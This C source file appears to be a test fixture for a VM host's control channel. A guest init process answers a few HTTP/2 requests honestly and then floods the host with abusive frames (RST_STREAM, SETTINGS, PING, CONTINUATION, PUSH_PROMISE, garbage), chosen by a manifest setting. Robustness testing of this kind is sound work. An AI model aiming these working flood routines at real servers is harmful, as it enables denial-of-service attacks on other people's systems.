/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A guest that attacks its host through the control channel: PID 1 that finds the ports, answers the doorbell, serves
 * the first requests like an honest agent, and then floods as the environment of its manifest says ("FLOOD": mode).
 * Modes that begin before the session ("noise", "mute", "early-...") never get as far as being honest.
 */
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION };
enum { END_STREAM = 1, ACK = 1, END_HEADERS = 4 };
enum { WAITING, MARKED, SERVING };

#define MARKER   20
#define HONEST   3 /* requests answered well: health, clock, events */
#define HONEST_S 0.5

static char mode[32];
static int ctl, bell;
static int state;
static unsigned char marker[MARKER], window[MARKER];
static unsigned char in[1 << 18], reply[8192], flood[1 << 16];
static size_t n_in, n_reply, reply_at, n_flood, flood_at;
static unsigned n_requests;
static unsigned last_stream, events_stream;
static double honest_until;

static double now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void put(unsigned char *buf, size_t *len, unsigned type, unsigned flags, unsigned stream, const void *data,
                size_t n)
{
    const unsigned char head[] = {n >> 16, n >> 8, n, type, flags, stream >> 24, stream >> 16, stream >> 8, stream};

    memcpy(buf + *len, head, sizeof(head));
    if (n) memcpy(buf + *len + sizeof(head), data, n);
    *len += sizeof(head) + n;
}

/* --- what is flooded with ----------------------------------------------------------------------------------------- */

/* The frames of one mode, as often as they fit. */
static void make_flood(void)
{
    static unsigned char zeros[16384], many[16 * 6];
    static const char event[] = "{\"type\":\"ready\"}\n", odd[] = "{\"type\":\"state\",\"state\":\"exited\"}\n";
    static const unsigned char increment[] = {0, 0, 0, 1}, cancel[] = {0, 0, 0, 8}, priority[] = {0, 0, 0, 0, 16};
    static const unsigned char header[] = {0, 1, 'a', 8, 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'};
    static const unsigned char status_100[] = {8 /* :status literal by index */, 3, '1', '0', '3'};
    unsigned char block[16000];
    size_t size = sizeof(flood) - 32768;

    n_flood = flood_at = 0;
    for (size_t i = 0; i < sizeof(many); i += 6)
        memcpy(many + i, "\0\4\0\1\0\0", 6);
    for (size_t i = 0; i + sizeof(header) <= sizeof(block); i += sizeof(header))
        memcpy(block + i, header, sizeof(header));
    if (strcmp(mode, "continuation") == 0) put(flood, &n_flood, HEADERS, 0, events_stream, header, sizeof(header));
    while (n_flood < size) {
        if (strcmp(mode, "rst") == 0)
            put(flood, &n_flood, RST_STREAM, 0, 1, cancel, 4);
        else if (strcmp(mode, "empty") == 0)
            put(flood, &n_flood, DATA, 0, events_stream, NULL, 0);
        else if (strcmp(mode, "priority") == 0)
            put(flood, &n_flood, PRIORITY, 0, events_stream, priority, 5);
        else if (strcmp(mode, "window") == 0)
            put(flood, &n_flood, WINDOW_UPDATE, 0, 0, increment, 4);
        else if (strcmp(mode, "settings") == 0)
            put(flood, &n_flood, SETTINGS, 0, 0, many, sizeof(many));
        else if (strcmp(mode, "ping") == 0)
            put(flood, &n_flood, PING, 0, 0, zeros, 8);
        else if (strcmp(mode, "goaway") == 0)
            put(flood, &n_flood, GOAWAY, 0, 0, "\0\0\0\7\0\0\0\0", 8);
        else if (strcmp(mode, "unknown") == 0)
            put(flood, &n_flood, 0x77, 0, 0, zeros, 100);
        else if (strcmp(mode, "informational") == 0)
            put(flood, &n_flood, HEADERS, END_HEADERS, events_stream, status_100, sizeof(status_100));
        else if (strcmp(mode, "continuation") == 0)
            put(flood, &n_flood, CONTINUATION, 0, events_stream, block,
                sizeof(block) / sizeof(header) * sizeof(header));
        else if (strcmp(mode, "data") == 0)
            put(flood, &n_flood, DATA, 0, events_stream, zeros, sizeof(zeros));
        else if (strcmp(mode, "events") == 0)
            put(flood, &n_flood, DATA, 0, events_stream, event, sizeof(event) - 1);
        else if (strcmp(mode, "states") == 0)
            put(flood, &n_flood, DATA, 0, events_stream, odd, sizeof(odd) - 1);
        else if (strcmp(mode, "push") == 0)
            put(flood, &n_flood, PUSH_PROMISE, END_HEADERS, events_stream, "\0\0\0\2\x82", 5);
        else if (strcmp(mode, "garbage") == 0 || strcmp(mode, "noise") == 0) {
            for (size_t i = 0; i < 4096; i++)
                flood[n_flood++] = (unsigned char)rand();
        } else {
            return; /* "mute": nothing at all */
        }
    }
}

/* --- the honest part ---------------------------------------------------------------------------------------------- */

/* One answer does for health, clock and events alike: keys that a reader does not know are ignored. */
static void answer(unsigned stream)
{
    static const char body[] = "{\"api\":1,\"version\":\"0\",\"state\":\"running\",\"ready\":true,\"uptime_ms\":1,"
                               "\"type\":\"state\",\"stream\":\"stdout\",\"line\":\"x\",\"timestamp\":\"\"}\n";

    last_stream = stream;
    if (++n_requests <= HONEST) events_stream = stream;
    if (n_reply + 512 > sizeof(reply)) return;
    put(reply, &n_reply, HEADERS, END_HEADERS, stream, "\x88" /* :status 200 */, 1);
    put(reply, &n_reply, DATA, n_requests == HONEST ? 0 : END_STREAM, stream, body, sizeof(body) - 1);
    if (n_requests == HONEST) honest_until = now() + HONEST_S;
}

static void take_frames(void)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    size_t at = 0;

    if (n_in >= sizeof(preface) - 1 && memcmp(in, preface, sizeof(preface) - 1) == 0) at = sizeof(preface) - 1;
    while (n_in - at >= 9) {
        const unsigned char *f = in + at;
        size_t n = (size_t)f[0] << 16 | (size_t)f[1] << 8 | f[2];
        unsigned stream = (f[5] & 0x7fu) << 24 | (unsigned)f[6] << 16 | (unsigned)f[7] << 8 | f[8];

        if (n_in - at < 9 + n) break;
        if (f[3] == HEADERS) answer(stream);
        if (f[3] == SETTINGS && !(f[4] & ACK)) put(reply, &n_reply, SETTINGS, ACK, 0, NULL, 0);
        if (f[3] == PING && !(f[4] & ACK) && n_reply + 64 < sizeof(reply)) put(reply, &n_reply, PING, ACK, 0, f + 9, n);
        at += 9 + n;
    }
    memmove(in, in + at, n_in - at);
    n_in -= at;
}

static void begin_session(void)
{
    state = SERVING;
    n_in = n_reply = reply_at = n_flood = flood_at = 0;
    n_requests = last_stream = events_stream = 0;
    honest_until = 0;
    put(reply, &n_reply, SETTINGS, 0, 0, NULL, 0);
}

static void read_ctl(void)
{
    static unsigned char data[65536];
    ssize_t n = read(ctl, data, sizeof(data));

    for (ssize_t i = 0; i < n; i++) {
        if (state == MARKED) {
            memmove(window, window + 1, MARKER - 1);
            window[MARKER - 1] = data[i];
            if (memcmp(window, marker, MARKER) == 0) begin_session();
        } else if (state == SERVING) {
            if (n_in == sizeof(in)) n_in = 0;
            in[n_in++] = data[i];
        }
    }
    if (state == SERVING) take_frames();
}

static void read_bell(void)
{
    static char line[38];
    char data[512];
    ssize_t n = read(bell, data, sizeof(data));

    for (ssize_t i = 0; i < n; i++) {
        memmove(line, line + 1, sizeof(line) - 1);
        line[sizeof(line) - 1] = data[i];
        if (data[i] != '\n' || memcmp(line, "SYNC ", 5) != 0) continue;
        memcpy(marker, "SYNC", 4);
        for (int k = 0; k < 16; k++) {
            const char digits[] = {line[5 + 2 * k], line[6 + 2 * k], 0};

            marker[4 + k] = (unsigned char)strtoul(digits, NULL, 16);
        }
        if (strcmp(mode, "noise") == 0 || strcmp(mode, "mute") == 0) continue;
        memset(window, 0, sizeof(window));
        state = MARKED;
        n_flood = flood_at = reply_at = 0;
        memcpy(reply, marker, MARKER);
        n_reply = MARKER;
    }
}

/* What is next to be written: answers, then, once it has been honest for long enough, the flood without end. */
static void write_ctl(void)
{
    ssize_t n;

    if (flood_at == 0 && reply_at < n_reply) {
        if ((n = write(ctl, reply + reply_at, n_reply - reply_at)) > 0) reply_at += (size_t)n;
        if (reply_at == n_reply) reply_at = n_reply = 0;
        return;
    }
    if (strcmp(mode, "noise") != 0 && (state != SERVING || honest_until == 0 || now() < honest_until)) return;
    if (n_flood == 0) make_flood();
    if (n_flood > 0 && (n = write(ctl, flood + flood_at, n_flood - flood_at)) > 0)
        flood_at = (flood_at + (size_t)n) % n_flood;
}

/* --- ports -------------------------------------------------------------------------------------------------------- */

static int open_port(const char *wanted)
{
    for (;;) {
        DIR *d = opendir("/sys/class/virtio-ports");
        struct dirent *e;

        while (d && (e = readdir(d))) {
            char path[512], name[64] = "";
            int fd;

            snprintf(path, sizeof(path), "/sys/class/virtio-ports/%s/name", e->d_name);
            if (e->d_name[0] == '.' || (fd = open(path, O_RDONLY)) < 0) continue;
            if (read(fd, name, sizeof(name) - 1) > 0) name[strcspn(name, "\n")] = '\0';
            close(fd);
            if (strcmp(name, wanted) != 0) continue;
            snprintf(path, sizeof(path), "/dev/%s", e->d_name);
            if ((fd = open(path, O_RDWR | O_NONBLOCK)) >= 0) return fd;
        }
        if (d) closedir(d);
        usleep(2000);
    }
}

static void read_mode(void)
{
    static char text[65536];
    int fd = open("/volant/config.json", O_RDONLY);
    ssize_t n = read(fd, text, sizeof(text) - 1);
    const char *at = n > 0 ? strstr(text, "\"FLOOD\":\"") : NULL;

    if (at) sscanf(at + 9, "%31[a-z]", mode);
    printf("hostile: mode %s\n", mode);
}

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    mkdir("/dev", 0755);
    mkdir("/sys", 0755);
    mount("devtmpfs", "/dev", "devtmpfs", 0, NULL);
    mount("sysfs", "/sys", "sysfs", 0, NULL);
    read_mode();
    ctl = open_port("volant.ctl");
    bell = open_port("volant.sync");
    for (;;) {
        struct pollfd p[] = {{bell, POLLIN, 0}, {ctl, POLLIN, 0}};

        poll(p, 2, 1);
        if (p[0].revents & POLLIN) read_bell();
        if (p[1].revents & POLLIN) read_ctl();
        /* A burst, so that the emulated CPU spends itself on writing. */
        for (int i = 0; i < 64; i++)
            write_ctl();
    }
}
